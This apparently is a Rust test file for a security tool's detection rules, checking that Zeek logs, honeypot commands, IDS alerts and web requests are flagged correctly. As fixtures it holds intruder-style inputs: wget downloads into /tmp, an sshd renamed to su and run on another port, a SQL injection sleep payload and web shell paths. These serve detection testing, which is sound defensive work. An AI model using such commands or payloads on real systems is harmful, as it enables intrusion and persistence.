//! Behaviours on the network and in tables.

use std::collections::BTreeMap;

use casebook_protocol::Bearing;
use serde_json::{Value, json};

use super::{Behaviour, all};
use crate::analyst::rec::{self, Rec};
use casebook_evidence::facet::{Facet, Facets};

type Map = BTreeMap<String, String>;

#[test]
fn programs_under_other_names_and_on_other_hosts_are_seen_on_the_network() {
    let zeek = |names: &str, row: &str| {
        let fields: Map = names.split(' ').zip(row.split('\t')).map(|(k, v)| (k.to_owned(), v.to_owned())).collect();
        let facets = Facets::read(&fields, row);
        let lower = facets.get(Facet::Text).unwrap_or_default().to_lowercase();
        all().iter().filter(|b| b.matches(&facets, &lower)).map(|b| b.id.as_str()).collect::<Vec<_>>()
    };
    const HTTP: &str = "ts uid id.orig_h id.resp_h method host uri status_code resp_mime_types";
    let shown = zeek(HTTP, "1\tCx1\t10.0.0.7\t192.0.2.9\tGET\t192.0.2.9\t/a.png\t200\tapplication/x-dosexec");
    assert!(shown.contains(&"executable-behind-other-name"), "{shown:?}");
    let shown = zeek(HTTP, "1\tCx1\t10.0.0.7\t192.0.2.9\tGET\t192.0.2.9\t/a.exe\t200\tapplication/x-dosexec");
    assert!(!shown.contains(&"executable-behind-other-name"), "{shown:?}");
    let bot =
        "1\tCx1\t10.0.0.7\t192.0.2.9\tPOST\t192.0.2.9\t/ser11/PC-7_W617601.A58868686B1A88CAB32C4D4AC9CB2738/83/\t-\t-";
    assert!(zeek(HTTP, bot).contains(&"banking-trojan-report"));
    let page = zeek(HTTP, "1\tCx1\t10.0.0.7\t192.0.2.9\tGET\t192.0.2.9\t/get?f=a.png\t200\tapplication/x-dosexec");
    assert!(!page.contains(&"executable-behind-other-name"), "{page:?}");
    const FILES: &str = "ts fuid id.orig_h id.resp_h source analyzers mime_type filename is_orig";
    let sent = |path: &str, by: &str| {
        zeek(FILES, &format!("1\tFx1\t10.0.0.7\t10.0.0.5\tSMB\tPE\tapplication/x-dosexec\t{path}\t{by}"))
            .contains(&"program-into-share-of-administrators")
    };
    let at = |path: &str| sent(path, "T");
    assert!(!sent(r"\\WINDOWS\\ntoskrnl.exe", "F"), "it was read");
    assert!(at(r"\\WINDOWS\\4k.exe") && at(r"Windows\Temp\a.dll"));
    assert!(!at(r"corp.local\Policies\{31B2F340}\a.exe") && !at(r"\\tools\\windows.exe"));
}

#[test]
fn a_row_of_a_table_says_what_its_cells_are() {
    let names = "CreatedDateTime UserPrincipalName IPAddress AuthenticationProtocol AppDisplayName ResultType";
    let row = "2026-06-15T15:50:16Z,mara@example.org,192.0.2.9,deviceCode,Broker,0";
    let fields: Map = names.split(' ').zip(row.split(',')).map(|(k, v)| (k.to_owned(), v.to_owned())).collect();
    let facets = Facets::read(&fields, row);
    let text = facets.get(Facet::Text).unwrap();
    assert!(text.contains("\nAuthenticationProtocol=deviceCode"), "{text}");
    let json = r#"{"CreatedDateTime":"x","UserPrincipalName":"m","IPAddress":"1.2.3.4","ResultType":"0"}"#;
    let fields: Map = serde_json::from_str(json).unwrap();
    assert_eq!(Facets::read(&fields, json).get(Facet::Text), Some(json));
}

#[test]
fn what_intruders_type_is_told_from_what_administrators_type() {
    let typed = |command: &str| {
        let fields: Map = [("eventid", "cowrie.command.input"), ("input", command), ("session", "abc60b61c358")]
            .map(|(k, v)| (k.to_owned(), v.to_owned()))
            .into();
        let facets = Facets::read(&fields, command);
        let lower = command.to_lowercase();
        all().iter().filter(|b| b.matches(&facets, &lower)).map(|b| b.id.as_str()).collect::<Vec<_>>()
    };
    let sshd = "linux-sshd-under-other-name";
    assert!(typed("ln -sf /usr/sbin/sshd /tmp/su;/tmp/su -oPort=1987").contains(&sshd));
    assert!(typed("cd /tmp; ln -sf /usr/sbin/sshd su; ./su -oPort=1987").contains(&sshd));
    assert!(!typed("cp /usr/sbin/sshd /opt/backup/sshd; ssh -oPort=2222 backup@host").contains(&sshd));
    let fetched = "linux-download-into-temp-from-address";
    assert!(typed("wget -P/tmp http://192.0.2.18/xcsyn").contains(&fetched));
    assert!(typed("cd /tmp; wget http://192.0.2.18/bins.sh").contains(&fetched));
    assert!(!typed("wget -P/tmp https://example.org/a.tgz").contains(&fetched));
    assert!(!typed("wget http://192.0.2.18/a.tgz").contains(&fetched));
    assert!(!typed("wget -O /tmp/app-1.2.3.4.tgz https://example.org/app-1.2.3.4.tgz").contains(&fetched));
}

#[test]
fn an_alert_of_an_intrusion_detection_system_weighs_by_its_grade() {
    let graded = |severity: &str| {
        let raw = json!({"event_type": "alert", "src_ip": "192.0.2.9", "dest_ip": "10.0.0.7",
            "alert": {"signature": "GPL ATTACK_RESPONSE id check returned root", "severity": severity}});
        let fields: Map = [
            ("event_type", "alert"),
            ("src_ip", "192.0.2.9"),
            ("alert.signature", "GPL ATTACK_RESPONSE id check returned root"),
            ("alert.severity", severity),
        ]
        .map(|(k, v)| (k.to_owned(), v.to_owned()))
        .into();
        let facets = Facets::read(&fields, &raw.to_string());
        let lower = raw.to_string().to_lowercase();
        all().iter().filter(|b| b.matches(&facets, &lower)).map(|b| b.id.as_str()).collect::<Vec<_>>()
    };
    assert_eq!(graded("1"), ["alert-of-medium-severity"]);
    assert_eq!(graded("2"), ["alert-of-low-severity"]);
    assert_eq!(graded("3"), [""; 0]);
}

#[test]
fn what_is_sent_in_a_body_accuses_and_excuses_nothing() {
    let asked = |url: &str, body: &str| {
        let request = format!("POST {url} HTTP/1.1");
        let fields: Map = [("method", "POST"), ("request", &request), ("status", "200"), ("request_body", body)]
            .map(|(k, v)| (k.to_owned(), v.to_owned()))
            .into();
        let text = format!("{url} {body}");
        let facets = Facets::read(&fields, &text);
        all().iter().filter(|b| b.matches(&facets, &text.to_lowercase())).collect::<Vec<_>>()
    };
    let ids = |all: &[&Behaviour]| all.iter().map(|b| b.id.clone()).collect::<Vec<_>>();
    let injected = asked("/a.php", "id=2%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))x)");
    assert!(ids(&injected).contains(&"web-sql-injection".to_owned()), "{:?}", ids(&injected));
    let package = "http://archive.ubuntu.com/ubuntu/pool/main/a/apt/apt_1.0_amd64.deb";
    let excused = asked("/shell.php?cmd=id", package);
    assert!(excused.iter().all(|b| b.bearing != Bearing::Exonerating), "{:?}", ids(&excused));
    let shell = asked("/uploads/shell.aspx", "x=/owa/auth/logon.aspx");
    assert!(ids(&shell).contains(&"web-script-in-upload-folder".to_owned()), "{:?}", ids(&shell));
}

#[test]
fn in_a_honeypot_nothing_is_excused() {
    let shown = |fields: Value| {
        let record = json!({"source": "ssh", "file": "ssh.json", "line": 5, "time": "2026-03-01T10:00:00Z",
            "time_basis": "record", "precision": "second", "time_field": "timestamp", "raw": fields.to_string(),
            "fields": fields});
        let found = json!({"total": 1, "returned": 1, "records": [record]}).to_string();
        let done = Rec::answered("r1.investigate.endpoint.t1.0", "search", "{}", &found);
        let recs = rec::collect(&[done]);
        recs[0].shows.iter().map(|b| (b.id.clone(), b.bearing)).collect::<Vec<_>>()
    };
    let typed = |id: &str| json!({"eventid": id, "input": "modprobe -q -- net-pf-10", "commandline": "modprobe -q -- net-pf-10"});
    let excused = |all: &[(String, Bearing)]| all.iter().any(|(_, bearing)| *bearing == Bearing::Exonerating);
    let elsewhere = shown(typed("process_start"));
    assert!(excused(&elsewhere), "the book excuses it elsewhere: {elsewhere:?}");
    let here = shown(typed("cowrie.command.input"));
    assert!(!excused(&here), "{here:?}");
}
